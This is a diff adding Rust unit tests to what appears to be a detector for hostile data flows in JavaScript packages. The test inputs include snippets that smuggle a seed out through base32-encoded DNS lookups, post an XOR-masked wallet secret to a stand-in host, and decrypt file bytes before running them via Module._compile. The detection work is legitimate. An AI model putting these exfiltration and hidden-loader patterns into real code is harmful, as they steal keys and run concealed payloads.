@@ -463,6 +463,57 @@ fn functions_classes_and_events_do_not_hide_data() {
 }
 
 #[test]
+fn what_is_spelled_in_an_alphabet_is_the_same_data() {
+    assert_eq!(
+        flows(
+            "const digits = 'abcdefghijklmnopqrstuvwxyz234567';
+            function label(bytes) { let bits = 0, value = 0, out = ''; for (const byte of bytes) { value = value << 8 | byte; bits += 8; while (bits >= 5) { bits -= 5; out += digits[value >>> bits & 31] } } return out }
+            exports.prefer = seed => require('dns').resolveTxt(label(seed) + '.a.invalid', () => {})"
+        ),
+        ["KeyMaterial parameter seed -> Dns dns.resolveTxt encoded"]
+    );
+}
+
+#[test]
+fn where_wallets_are_at_work_a_secret_is_a_key_and_a_signature_is_none() {
+    assert_eq!(
+        flows(
+            "import { secp256k1 } from '@noble/curves/secp256k1'
+            export const probe = secret => fetch('https://a.invalid', { body: secret.map(byte => byte ^ 7) })"
+        ),
+        ["KeyMaterial parameter secret -> Body fetch"]
+    );
+    assert_eq!(
+        flows(
+            "import { secp256k1 } from '@noble/curves/secp256k1'
+            export const send = (hash, secret) => fetch('https://a.invalid', { body: secp256k1.sign(hash, secret).toCompactHex() })"
+        ),
+        [""; 0]
+    );
+    assert_eq!(
+        flows("export const send = secret => fetch('https://a.invalid', { body: secret })"),
+        [""; 0],
+        "anybody's secret of a service"
+    );
+}
+
+#[test]
+fn bytes_that_a_key_turns_are_a_blob() {
+    assert_eq!(
+        flows(
+            "const fs = require('fs'), Module = require('module');
+            exports.hydrate = file => { const rest = fs.readFileSync(file), key = rest.subarray(0, 4);
+            const text = Buffer.from(rest.map((b, i) => b ^ key[i & 3])).toString();
+            new Module(file)._compile(text, file) }"
+        ),
+        [
+            "File fs.readFileSync(\"\") -> Code module()._compile encoded",
+            "Blob Buffer.from().toString() of bytes ^ a key -> Code module()._compile encoded"
+        ]
+    );
+}
+
+#[test]
 fn what_does_not_flow_is_not_told() {
     assert_eq!(
         flows("const t = process.env.NPM_TOKEN; log(t); fetch('https://a.invalid')"),
